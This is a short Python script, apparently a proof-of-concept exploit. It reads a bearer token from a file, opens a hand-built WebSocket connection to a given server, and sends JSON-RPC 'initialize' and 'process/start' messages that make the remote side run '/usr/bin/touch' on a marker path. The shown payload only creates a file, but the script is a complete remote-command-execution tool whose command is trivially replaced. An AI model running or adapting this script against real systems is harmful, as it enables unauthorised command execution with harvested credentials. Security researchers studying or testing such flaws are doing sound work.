import socket, os, sys, json, base64, glob, time
found = glob.glob(sys.argv[1])
if not found:
    print("no token file:", sys.argv[1]); sys.exit(3)
tokfile = found[0]
tok = open(tokfile).read().strip()
host, port = sys.argv[2].split(":")
marker = sys.argv[3]
s = socket.create_connection((host, int(port)), timeout=5)
key = base64.b64encode(os.urandom(16)).decode()
s.sendall(("GET / HTTP/1.1\r\nHost: %s:%s\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: %s\r\nSec-WebSocket-Version: 13\r\nAuthorization: Bearer %s\r\n\r\n" % (host, port, key, tok)).encode())
resp = b""
while b"\r\n\r\n" not in resp: resp += s.recv(4096)
print(resp.split(b"\r\n")[0].decode())
def send(obj):
    data = json.dumps(obj).encode(); mask = os.urandom(4)
    hdr = bytes([0x81]); n = len(data)
    hdr += bytes([0x80 | n]) if n < 126 else bytes([0x80 | 126]) + n.to_bytes(2, "big")
    s.sendall(hdr + mask + bytes(b ^ mask[i % 4] for i, b in enumerate(data)))
send({"id": 1, "method": "initialize", "params": {"clientName": "x", "resumeSessionId": None}})
time.sleep(0.3)
send({"method": "initialized", "params": {}})
send({"id": 2, "method": "process/start", "params": {"processId": "p", "argv": ["/usr/bin/touch", marker], "cwd": "/", "env": {}, "tty": False}})
time.sleep(1)
print("sent")
